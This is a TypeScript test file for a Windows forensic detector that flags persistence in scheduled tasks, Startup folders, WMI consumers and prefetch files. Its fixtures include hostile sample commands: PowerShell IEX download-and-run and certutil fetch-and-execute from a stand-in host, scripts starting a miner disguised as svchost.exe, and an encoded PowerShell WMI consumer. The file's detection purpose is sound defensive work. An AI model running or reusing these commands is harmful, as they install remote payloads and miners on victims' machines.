import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../../tests/machine-tree.ts';
import type { Probe, Told } from '../../../model/machine-units.ts';
import { windowsPrefetch } from './prefetch.ts';
import { windowsStartupFolders } from './startup-folders.ts';
import { windowsTasks } from './tasks.ts';
import { windowsWmi } from './wmi.ts';

const told = (probe: Probe, files: Files): Told[] => runProbe(probe, machineOf(files, { platform: 'windows' }));
const gives = (value: object): unknown => expect.objectContaining({ value: expect.objectContaining(value) });

function task(command: string, words: string): Buffer {
  const text = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2026-11-20T03:00:00</Date><URI>\\Updater</URI></RegistrationInfo>
  <Triggers><BootTrigger><Enabled>false</Enabled></BootTrigger><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition></TimeTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>${command}</Command><Arguments>${words}</Arguments></Exec></Actions>
</Task>`;
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

describe('scheduled tasks of Windows', () => {
  const path = '/Windows/System32/Tasks/Updater';

  it('tells of one that fetches and starts, with whom it runs as and when', () => {
    const words =
      '-w hidden -c &quot;IEX (New-Object Net.WebClient).DownloadString(&apos;http://198.51.100.7/a.ps1&apos;)&quot;';
    const all = told(windowsTasks, { [path]: task('powershell.exe', words) });
    expect(all).toContainEqual(
      gives({
        mechanism: 'scheduled-task',
        name: '\\Updater',
        user: 'S-1-5-18',
        when: 'at start, at a time, every PT5M',
        enabled: true,
        why: ['fetches-and-runs'],
      }),
    );
    expect(all).toContainEqual({ examine: path });
  });
  it('keeps an ordinary one as context, in whatever folder', () => {
    const files = {
      '/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag': task(
        '%windir%\\system32\\defrag.exe',
        '-c -h -k',
      ),
    };
    expect(told(windowsTasks, files)).toContainEqual(expect.objectContaining({ aside: true }));
  });
  it('says that a task is no XML', () => {
    expect(told(windowsTasks, { [path]: 'MZ' })).toContainEqual(
      expect.objectContaining({ gap: expect.objectContaining({ code: 'malformed' }) }),
    );
  });
});

describe('Startup folders of Windows', () => {
  const folder = '/Users/ada/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup';

  it('tells of a script that fetches and starts, and has all examined', () => {
    const all = told(windowsStartupFolders, {
      [`${folder}/run.bat`]: 'certutil -urlcache -f http://198.51.100.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe',
      [`${folder}/desktop.ini`]: '',
      [`${folder}/note.lnk`]: 'L',
    });
    expect(all).toContainEqual(gives({ name: 'run.bat', user: 'ada', carries: 'download' }));
    expect(all.filter((item) => 'examine' in item)).toHaveLength(2);
  });
});

describe('scripts in a Startup folder of Windows', () => {
  const folder = '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp';
  const miner = '/ProgramData/WinUpdate/svchost.exe';
  const command = String.raw`C:\ProgramData\WinUpdate\svchost.exe -c C:\ProgramData\WinUpdate\config.json`;
  const quoted = String.raw`"C:\ProgramData\WinUpdate\svchost.exe"`;

  it.each([
    ['helper.vbs', `Set s = CreateObject("WScript.Shell")\r\ns.Run "${command}", 0, False\r\n`, command],
    ['helper2.vbs', `s.Run ""${quoted}" -B", 0`, `${quoted} -B`],
    ['helper.js', `new ActiveXObject("WScript.Shell").Run("${command.replaceAll('\\', '\\\\')}")`, command],
    ['helper.cmd', `@echo off\r\nstart /b ${command}\r\n`, command],
    ['helper.ps1', `Start-Process ${quoted}`, quoted],
  ])('are told with what they start: %s', (name, text, starts) => {
    const place = `${folder}/${name}`;
    const all = told(windowsStartupFolders, { [place]: text, [miner]: 'MZ', '/Windows/win.ini': '' });
    expect(all).toContainEqual(gives({ starts, programs: [place, miner], why: ['poses-as-system'] }));
    expect(all).toContainEqual({ examine: miner });
  });

  it('are told aside where they start an ordinary program', () => {
    const text = String.raw`' C:\ProgramData\a.exe${'\n'}s.Run "C:\Program Files\Notes\notes.exe /min"${'\n'}MsgBox "at 5: look"`;
    const clean = String.raw`@echo off${'\r\n'}del /q %TEMP%\old.exe${'\r\n'}net use Z: \\nas\x > C:\Windows\Temp\net.log${'\r\n'}`;
    const files = { [`${folder}/clean.cmd`]: clean, [`${folder}/notes.vbs`]: text, '/Windows/win.ini': '' };
    const aside = { aside: true, value: { why: [] } };
    expect(told(windowsStartupFolders, files).filter((item) => 'kind' in item)).toMatchObject([aside, aside]);
  });
});

describe('event consumers of WMI', () => {
  it('tells of a command that hides itself, and of none in the class alone', () => {
    const path = '/Windows/System32/wbem/Repository/OBJECTS.DATA';
    const command = `powershell.exe -NoP -enc ${'QQBB'.repeat(10)}`;
    const data = `\0CommandLineEventConsumer\0\0CommandLineTemplate\0${'\0'.repeat(5000)}CommandLineEventConsumer\0\x01\0${command}\0`;
    const all = told(windowsWmi, { [path]: Buffer.from(data, 'latin1') });
    expect(all.filter((item) => 'kind' in item)).toMatchObject([
      { kind: 'autostart', value: { starts: command, why: ['decodes'] } },
    ]);
  });
});

describe('prefetch', () => {
  it('tells of names of miners alone', () => {
    const files = { '/Windows/Prefetch/XMRIG.EXE-1A2B3C4D.pf': 'x', '/Windows/Prefetch/CHROME.EXE-1A2B3C4D.pf': 'x' };
    expect(told(windowsPrefetch, files).filter((item) => 'kind' in item)).toMatchObject([
      { value: { term: 'xmrig', category: 'miner' } },
    ]);
  });
});

it('no time of a file is too strange for Startup folders', () => {
  const path = '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/x.exe';
  const [entry] = told(windowsStartupFolders, {
    '/Windows/win.ini': '',
    [path]: { content: 'MZ', modified: 9e15 },
  });
  expect(entry).toMatchObject({ value: { place: path } });
  expect(entry).not.toHaveProperty('value.modified');
});
